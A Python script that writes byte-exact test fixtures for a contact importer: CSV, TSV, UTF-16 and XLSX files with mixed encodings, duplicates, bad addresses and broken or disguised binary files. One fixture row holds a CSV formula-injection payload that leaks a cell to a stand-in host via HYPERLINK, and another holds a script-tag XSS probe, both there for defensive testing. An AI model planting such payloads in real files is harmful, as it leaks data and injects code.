"""Writes the contact-import fixtures in this folder: `python tests/data/make_fixtures.py`.

The files are committed; this script says how each was made, byte for byte, so that a
fixture can be changed deliberately rather than by re-saving it in some editor.
"""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent


def excel_cp1252_semicolon() -> bytes:
    """What French Excel writes with "CSV (séparateur: point-virgule)": cp1252, ;, CRLF."""
    rows = [
        "Courriel;Prénom;Nom;Commune;Remarque",
        "marie.lefevre@mairie-exemple.fr;Marie;Lefèvre;Saint-Étienne;Élue déléguée",
        "Jean.Dupont@Mairie-Exemple.fr;Jean;Dupont;Cœuvres;Budget 500 €",
        "jean.dupont@mairie-exemple.fr;Jean-Marc;Dupont;Cœuvres;doublon en casse",
        "pas-une-adresse;Zoé;Œillet;Lœuilly;",
        ";Sans;Adresse;Paris;",
        ";;;;",
        'agathe@asso-exemple.org;"Agathe\r\n(deux lignes)";Martin;Lyon;"dit ""la présidente"""',
        'formule@mairie-exemple.fr;"=HYPERLINK(""http://x?""&A1;""clic"")";Malin;Paris;@SUM(1+1)',
        "html@mairie-exemple.fr;<script>alert(1)</script>;<b>Gras</b>;Nice;-2+3",
    ]
    text = "\r\n".join(rows) + "\r\n"  # row 8 has a quoted field on two lines
    return text.encode("cp1252")


def utf8_bom() -> bytes:
    """UTF-8 with BOM, commas, LF: Excel's "CSV UTF-8", Google Sheets, LibreOffice."""
    rows = [
        "E-mail,First name,Last name,Ville",
        "zoe@exämple.fr,Zoé,Ünal,Besançon",
        "chloe@xn--exmple-cua.fr,Chloé,Ünal,Besançon",
        "ZOE@EXÄMPLE.FR,Zoé,Doublon,Besançon",
        '"  leo@mairie-exemple.fr ","Léo","N\'Diaye","Saint-Denis, La Réunion"',
        "sans-arobase.fr,Sans,Arobase,",
    ]
    return "\ufeff".encode() + ("\n".join(rows) + "\n").encode("utf-8")


def tabs_mixed_endings() -> bytes:
    """Tab-separated UTF-8 without BOM, with \\r\\n, \\n and a bare \\r as line ends."""
    return (
        "Adresse électronique\tPrénom\tNom de famille\r\n"
        "a@mairie-exemple.fr\tAnne\tAubert\n"
        "b@mairie-exemple.fr\tBruno\tBlanc\r"
        "c@mairie-exemple.fr\tCéline\tCaron\r\n"
    ).encode()


def utf16_excel() -> bytes:
    """Excel's "Texte Unicode (*.txt)": UTF-16 LE with BOM, tab-separated."""
    text = "Mail\tPrénom\tNom\r\nutf16@mairie-exemple.fr\tÉlodie\tFaure\r\n"
    return text.encode("utf-16")


def headerless() -> bytes:
    return b"un@mairie-exemple.fr\r\ndeux@mairie-exemple.fr\r\ntrois@mairie-exemple.fr\r\n"


def no_email_column() -> bytes:
    return "Nom;Prénom;Ville\r\nDupont;Jean;Paris\r\n".encode("cp1252")


def duplicate_headers() -> bytes:
    return b"Email;Nom;Nom;Email\r\nd1@mairie-exemple.fr;Durand;Dupuis;autre@mairie-exemple.fr\r\n"


def long_fields() -> bytes:
    local = "a" * 250
    return (
        "Courriel;Prénom;Nom\r\n"
        f"long@mairie-exemple.fr;{'x' * 10_000};Court\r\n"
        f"{local}@mairie-exemple.fr;Trop;Longue\r\n"
    ).encode()


def binary_png() -> bytes:
    return (
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00"
        b"\x00\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18"
        b"\xd8N\x00\x00\x00\x00IEND\xaeB`\x82"
    )


def nul_bytes_csv() -> bytes:
    """Looks like text at first, but holds NUL bytes: a binary file renamed .csv."""
    return b"Email;Nom\r\na@mairie-exemple.fr;A\x00\x00\x00\x01\x02\r\n"


def not_a_workbook_zip() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr(zipfile.ZipInfo("contacts.txt", (2024, 1, 1, 0, 0, 0)), "a@b.fr\n")
    return buf.getvalue()


def old_excel_xls() -> bytes:
    """The OLE2 signature that starts a .xls (and a password-protected .xlsx)."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504


def contacts_xlsx() -> bytes:
    """A workbook as a body would have it: titles on row 1, numbers, a date, a blank row."""
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.title = "Contacts"
    ws.append(["Adresse mail", "Prénom", "Nom de famille", "Code postal", "Inscrit le"])
    ws.append(["camille@mairie-exemple.fr", "Camille", "Petit", 75001, dt.date(2024, 3, 1)])
    ws.append(["Camille@Mairie-Exemple.fr", "Camille", "Doublon", 75001, dt.date(2024, 3, 2)])
    ws.append([None, None, None, None, None])
    ws.append(["pas une adresse", "Paul", "Espace", 13001.0, None])
    ws.append(["noel@mairie-exemple.fr", "Noël", "Œuvray", "01000", dt.datetime(2024, 12, 25, 9)])
    # Fix the dates inside, so that the file is the same bytes at every run.
    buf = io.BytesIO()
    wb.properties.created = dt.datetime(2024, 1, 1)
    wb.save(buf)
    return _fixed_zip_dates(buf.getvalue())


def _fixed_zip_dates(data: bytes) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            fixed = zipfile.ZipInfo(info.filename, (2024, 1, 1, 0, 0, 0))
            fixed.compress_type = zipfile.ZIP_DEFLATED
            content = src.read(info.filename)
            if info.filename == "docProps/core.xml":  # openpyxl stamps "modified" at save
                content = re.sub(
                    rb"(<dcterms:modified[^>]*>)[^<]*", rb"\g<1>2024-01-01T00:00:00Z", content
                )
            dst.writestr(fixed, content)
    return out.getvalue()


FIXTURES = {
    "excel-cp1252-semicolon.csv": excel_cp1252_semicolon,
    "utf8-bom.csv": utf8_bom,
    "tabs-mixed-endings.tsv": tabs_mixed_endings,
    "excel-unicode-utf16.txt": utf16_excel,
    "headerless.csv": headerless,
    "no-email-column.csv": no_email_column,
    "duplicate-headers.csv": duplicate_headers,
    "long-fields.csv": long_fields,
    "empty.csv": lambda: b"",
    "blank-lines.csv": lambda: b"\r\n\r\n;;\r\n  \r\n",
    "image-renamed.csv": binary_png,
    "nul-bytes.csv": nul_bytes_csv,
    "not-a-workbook.xlsx": not_a_workbook_zip,
    "old-excel.xls": old_excel_xls,
    "contacts.xlsx": contacts_xlsx,
    "truncated.xlsx": lambda: contacts_xlsx()[:1500],
}


def main() -> None:
    for name, make in FIXTURES.items():
        (HERE / name).write_bytes(make())
        print("wrote", name)


if __name__ == "__main__":
    main()
